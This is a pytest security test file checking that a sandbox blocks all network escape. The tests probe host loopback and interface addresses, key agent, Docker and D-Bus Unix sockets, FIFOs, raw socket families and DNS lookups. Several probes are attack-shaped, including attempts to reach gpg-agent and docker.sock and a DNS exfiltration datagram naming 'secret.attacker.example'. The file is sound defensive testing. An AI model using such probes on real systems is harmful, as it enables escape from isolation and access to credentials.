"""Promise: no socket of the host, and no address beyond it, can be reached."""

from __future__ import annotations

import contextlib
import json
import os
import socket
import threading
import time
from collections.abc import Callable, Iterator

import pytest
from tests.security.arena import Arena, Outcome, attack, listening, python, shell

MODES = pytest.mark.parametrize("mode", ["overlay", "direct", "readonly"])

Heard = list[bytes]


def _own_address() -> str:
    """An address of this machine that is not loopback's; "" without a route out."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))
        except OSError:
            return ""
        return str(probe.getsockname()[0])


@contextlib.contextmanager
def _answering(*sockets: socket.socket) -> Iterator[Heard]:
    """Serves each socket, streams and datagrams alike; the list holds what was heard."""
    heard: Heard = []

    def streams(server: socket.socket) -> None:
        with contextlib.suppress(OSError):
            while True:
                client, _ = server.accept()
                with client:
                    client.settimeout(5)
                    heard.append(client.recv(100))

    def datagrams(server: socket.socket) -> None:
        with contextlib.suppress(OSError):
            while True:
                data, sender = server.recvfrom(100)
                if not sender:
                    return
                heard.append(data)
                server.sendto(b"answer", sender)

    threads = []
    for server in sockets:
        stream = server.type == socket.SOCK_STREAM
        if stream:
            server.listen()
        threads.append(threading.Thread(target=streams if stream else datagrams, args=(server,)))
        threads[-1].daemon = True
        threads[-1].start()
    try:
        yield heard
    finally:
        for server in sockets:
            with contextlib.suppress(OSError):
                server.shutdown(socket.SHUT_RDWR)
            server.close()


@MODES
def test_e30_host_addresses(arena: Arena, mode: str) -> None:
    """A server on the host's loopback or on any of its addresses is out of reach, TCP and UDP."""
    hosts = ["127.0.0.1", "127.1.2.3", "::1", "::ffff:127.0.0.1", "0.0.0.0", "::"]
    hosts += [own] if (own := _own_address()) else []

    # Each run has servers of its own: what was said in the first may be heard late.
    def reached(run: Callable[[list[str]], Outcome]) -> tuple[list[str], Heard]:
        stream = socket.create_server(("::", 0), family=socket.AF_INET6, dualstack_ipv6=True)
        port = stream.getsockname()[1]
        datagram = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        datagram.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        datagram.bind(("::", port))
        with _answering(stream, datagram) as heard:
            command = attack("sockets", json.dumps([[(host, port) for host in hosts], [], []]))
            return run(command).json, heard

    bare, heard = reached(arena.bare)
    assert b"got out" in heard
    inside, heard = reached(lambda command: arena.inside(command, mode=mode))

    assert {"tcp 127.0.0.1", "udp 127.0.0.1", "tcp ::1", "udp ::1"} <= {*bare}
    assert inside == []
    assert heard == []


@MODES
def test_e31_unix_sockets(arena: Arena, mode: str) -> None:
    """Agents of keys, container engines and desktops are out of reach: in the home, in /run, in
    /tmp, in the project itself, and in the abstract name space."""
    runtime = arena.base / "run"
    places = [
        arena.home / ".gnupg/S.gpg-agent",
        arena.home / ".docker/run/docker.sock",
        arena.outside / "agent.1234",
        runtime / "bus",
        arena.base / "tmux-0",
        arena.project / "vscode-ipc.sock",
        arena.project / "src/deep/docker.sock",
    ]
    abstract = f"casemate-test-{os.getpid()}"
    connect = attack("sockets", json.dumps([[], [str(path) for path in places], [abstract]]))
    environment = {
        "SSH_AUTH_SOCK": str(places[2]),
        "DBUS_SESSION_BUS_ADDRESS": f"unix:path={places[3]}",
    }

    @contextlib.contextmanager
    def servers() -> Iterator[list[Heard]]:
        with contextlib.ExitStack() as stack:
            heard = []
            for path in places:
                path.parent.mkdir(parents=True, exist_ok=True)
                path.unlink(missing_ok=True)
                heard.append(stack.enter_context(listening(path)))
            server = socket.socket(socket.AF_UNIX)
            server.bind("\0" + abstract)
            heard.append(stack.enter_context(_answering(server)))
            yield heard

    # Each run has servers of its own: what was said in the first may be heard late.
    with servers() as heard:
        bare = arena.bare(connect, environment=environment).json
        deadline = time.monotonic() + 10
        while not all(heard) and time.monotonic() < deadline:
            time.sleep(0.01)
        assert all(heard)
    with servers() as heard:
        inside = arena.inside(connect, mode=mode, environment=environment).json

    assert len(bare) == len(places) + 1
    assert inside == []
    assert not any(heard)


@MODES
def test_fifos_in_the_project(arena: Arena, mode: str) -> None:
    """A pipe in the project that a host program reads carries nothing out."""
    pipe = arena.project / "commands"

    def run(inside: bool) -> bytes:
        pipe.unlink(missing_ok=True)
        os.mkfifo(pipe)
        reader = os.open(pipe, os.O_RDONLY | os.O_NONBLOCK)
        write = python(
            "import os; fd = os.open('commands', os.O_WRONLY | os.O_NONBLOCK); os.write(fd, b'out')"
        )
        try:
            _ = arena.inside(write, mode=mode) if inside else arena.bare(write)
            return os.read(reader, 100)
        finally:
            os.close(reader)

    assert run(inside=False) == b"out"
    assert run(inside=True) == b""


def test_kinds_of_sockets(arena: Arena) -> None:
    """No socket can be made that passes by the network namespace or opens the kernel."""
    bare = arena.bare(attack("families")).json
    inside = arena.inside(attack("families")).json

    assert len(bare) >= 4
    assert inside == []


def test_interfaces_and_routes(arena: Arena) -> None:
    """Inside there is loopback and no other interface, route or neighbour."""
    look = shell(
        "cut -d: -f1 -s /proc/net/dev | tr -d ' '; tail -n +2 /proc/net/route; cat /proc/net/arp"
    )
    bare = arena.bare(look)
    inside = arena.inside(look)

    assert len(bare.out.split()) > len(inside.out.split())
    assert inside.out.splitlines()[0] == "lo"
    assert len(inside.out.splitlines()) == 2


def test_names_are_not_resolved(arena: Arena) -> None:
    """No name server answers, so no secret can leave inside a name that is asked for."""
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.bind(("127.0.0.1", 0))
    port = server.getsockname()[1]
    query = python(
        "import socket, sys; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.5)\n"
        "for address in ('127.0.0.1', '127.0.0.53'):\n"
        "    try: s.sendto(b'secret.attacker.example', (address, int(sys.argv[1]))); s.recv(9)\n"
        "    except OSError: pass\n",
        str(port),
    )
    with _answering(server) as heard:
        arena.bare(query)
        assert heard
        heard.clear()
        arena.inside(query)
        resolved = arena.inside(shell("getent hosts example.com; cat /etc/resolv.conf"))

    assert heard == []
    assert "nameserver" not in resolved.out and "example.com" not in resolved.out
